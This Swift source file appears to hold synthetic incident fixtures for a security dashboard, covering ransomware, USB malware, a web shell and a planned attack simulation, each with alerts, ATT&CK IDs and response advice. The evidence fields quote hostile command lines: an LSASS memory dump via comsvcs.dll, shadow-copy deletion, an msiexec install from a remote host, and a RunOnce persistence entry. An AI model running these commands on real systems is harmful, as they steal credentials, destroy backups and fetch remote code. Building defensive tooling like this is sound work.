extension Story {
  static let ransomware = Story(
    names: [
      "Multi-stage incident involving Execution & Impact on multiple endpoints",
      "Human-operated ransomware attack was launched from {device} (attack disruption)",
      "Ransomware activity on {server} reported by multiple sources",
    ],
    description: "A stolen account was used to reach servers of {company}, remove backups and start encrypting files.",
    severity: .high, classification: .truePositive, determination: .multiStagedAttack,
    systemTags: ["Attack Disruption"],
    alerts: [
      AlertTemplate(
        "Suspicious remote session on {device}",
        "An account that rarely uses remote desktop opened a session from an address never seen before.",
        "InitialAccess", ["T1078", "T1021.001"], .medium, .microsoftDefenderForEndpoint,
        "microsoftDefenderForEndpoint", at: 0,
        actions: "Confirm the session with {user}. Reset the password and revoke sessions if it is not theirs.",
        evidence: [.device(1), .user(1), .attackerIP(1), .hostSession(user: 1), .connection(port: 3389)]),
      AlertTemplate(
        "Credentials read from LSASS memory",
        "A process opened the memory of the local security authority and wrote a dump file.",
        "CredentialAccess", ["T1003.001"], .high, .microsoftDefenderForEndpoint, "microsoftDefenderForEndpoint",
        at: 14, actions: "Isolate the device. Treat every account that signed in to it as stolen.",
        threat: ("HackTool:Win32/DumpLsass", "DumpLsass"), investigation: "pendingApproval",
        evidence: [
          .device(1), .file("lsadump.bin", path: #"C:\ProgramData"#), .fileHash("procd.exe"),
          .process(
            "rundll32.exe",
            command: #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\ProgramData\lsadump.bin full"#,
            parent: "cmd.exe", user: 1),
        ]),
      AlertTemplate(
        "Shadow copies were deleted",
        "Backups that Windows keeps on the volume were removed, which often comes before encryption.",
        "Impact", ["T1490"], .high, .microsoftDefenderForEndpoint, "microsoftDefenderForEndpoint", at: 52,
        actions: "Isolate the server and check the state of offline backups.",
        evidence: [
          .server(1), .registryKey(#"SYSTEM\CurrentControlSet\Services\VSS"#),
          .serverProcess("vssadmin.exe", command: "vssadmin.exe delete shadows /all /quiet", parent: "powershell.exe"),
        ]),
      AlertTemplate(
        "Ransomware behaviour was blocked on {server}",
        "Many files were renamed with a new extension within seconds. The process was stopped.",
        "Ransom", ["T1486"], .high, .microsoft365Defender, "antivirus", at: 58,
        actions: "Keep the device isolated. Look for the same file on other devices before it is released.",
        threat: ("Ransom:Win64/LockSmith.A", "LockSmith"), actor: "Storm-0999",
        investigation: "partiallyRemediated",
        evidence: [
          .server(1), .server(2), .file("svchelper.exe", path: #"C:\Windows\Temp"#),
          .malware("Ransom:Win64/LockSmith.A", category: "Ransomware", file: "svchelper.exe"), .user(2),
        ]),
    ])

  static let usbMalware = Story(
    names: [
      "Malware incident on one endpoint", "'Raspworm' malware was prevented on {device}",
      "Execution incident on one endpoint involving a removable drive",
    ],
    description: "A shortcut on a removable drive started an installer that fetched a library from the internet.",
    severity: .low, classification: .truePositive, determination: .malware,
    alerts: [
      AlertTemplate(
        "A shortcut file on a removable drive started a command line",
        "Explorer opened a shortcut whose target is a command interpreter with hidden arguments.",
        "Execution", ["T1091", "T1204.002"], .medium, .microsoftDefenderForEndpoint, "microsoftDefenderForEndpoint",
        at: 0, actions: "Ask {user} for the drive and keep it for analysis.",
        evidence: [
          .device(1), .user(1), .file("Holiday photos.lnk", path: #"E:\"#),
          .process("msiexec.exe", command: "msiexec.exe /q /i http://{domain}:8080/a7f", parent: "cmd.exe", user: 1),
        ]),
      AlertTemplate(
        "'Raspworm' malware was prevented",
        "The antivirus stopped a library before it was loaded.",
        "Malware", ["T1218.007"], .low, .microsoftDefenderForEndpoint, "antivirus", at: 1,
        actions: "Run a full scan. No further steps are needed if nothing else is found.",
        threat: ("Worm:Win32/Raspworm!lnk", "Raspworm"), investigation: "successfullyRemediated",
        evidence: [
          .device(1), .malware("Worm:Win32/Raspworm!lnk", category: "Worm", file: "cfg.dll"),
          .registryValue(
            key: #"Software\Microsoft\Windows\CurrentVersion\RunOnce"#, name: "cfg",
            value: #"rundll32 %TEMP%\cfg.dll,Start"#),
          .dns, .controlDevice("Conveyor controller", port: 1), .networkCard(port: 2),
        ]),
    ])

  static let webShell = Story(
    names: [
      "Multi-stage incident involving Persistence & Command and control on one endpoint",
      "Possible web shell on {server}", "Exploitation of an internet-facing server ({server})",
    ],
    description: "A file that runs commands was written into a web folder of a server that the internet can reach.",
    severity: .high, classification: .truePositive, determination: .apt,
    alerts: [
      AlertTemplate(
        "Possible web shell was written",
        "The web server's worker process created a script in a folder it serves.",
        "Persistence", ["T1505.003", "T1190"], .medium, .microsoftDefenderForEndpoint, "customDetection", at: 0,
        actions: "Take the server off the internet and compare the web folder with a known good copy.",
        evidence: [
          .server(1), .attackerIP(1), .attackerIP(2),
          .file("error_log.aspx", path: #"C:\inetpub\wwwroot\aspnet_client"#),
        ]),
      AlertTemplate(
        "Web server process started a command shell",
        "Commands that list users and network settings came from the web server's worker process.",
        "Discovery", ["T1059.003", "T1033", "T1016"], .high, .microsoftDefenderForEndpoint,
        "microsoftDefenderForEndpoint", at: 7,
        actions: "Collect an investigation package before the server is restarted.", actor: "Storm-1124",
        evidence: [
          .server(1),
          .serverProcess(
            "cmd.exe", command: "cmd.exe /c whoami & ipconfig /all & net group \"Domain Admins\"", parent: "w3wp.exe"),
        ]),
      AlertTemplate(
        "Connection to an address used by attackers",
        "The server called an address that was reported in other intrusions, again and again at fixed intervals.",
        "CommandAndControl", ["T1071.001"], .high, .microsoftSentinel, "scheduledAlerts", at: 31,
        actions: "Block the address at the edge and search for it in every tenant.",
        evidence: [.server(1), .connection(port: 443), .dns, .url("/jquery-3.3.1.min.js"), .domain]),
    ])

  static let plannedTest = Story(
    names: ["Suspicious activity incident on one endpoint", "Attack simulation tool was used on {device}"],
    description: "A tool that imitates attackers ran on a device of {company}. It matches an announced exercise.",
    severity: .medium, classification: .informationalExpectedActivity, determination: .securityTesting,
    alerts: [
      AlertTemplate(
        "Attack simulation tool was found",
        "A framework for security tests wrote its files to the device.",
        "SuspiciousActivity", ["T1587.001"], .medium, .microsoftDefenderForEndpoint, "customTi", at: 0,
        actions: "Check with the security team of {company} whether an exercise is under way.",
        investigation: "benign",
        evidence: [
          .device(1), .user(1), .file("simulate.ps1", path: #"C:\Tools"#), .group("Purple team"),
          .process(
            "powershell.exe", command: "powershell.exe -File C:\\Tools\\simulate.ps1 -Technique T1547",
            parent: "explorer.exe", user: 1),
        ])
    ])
}
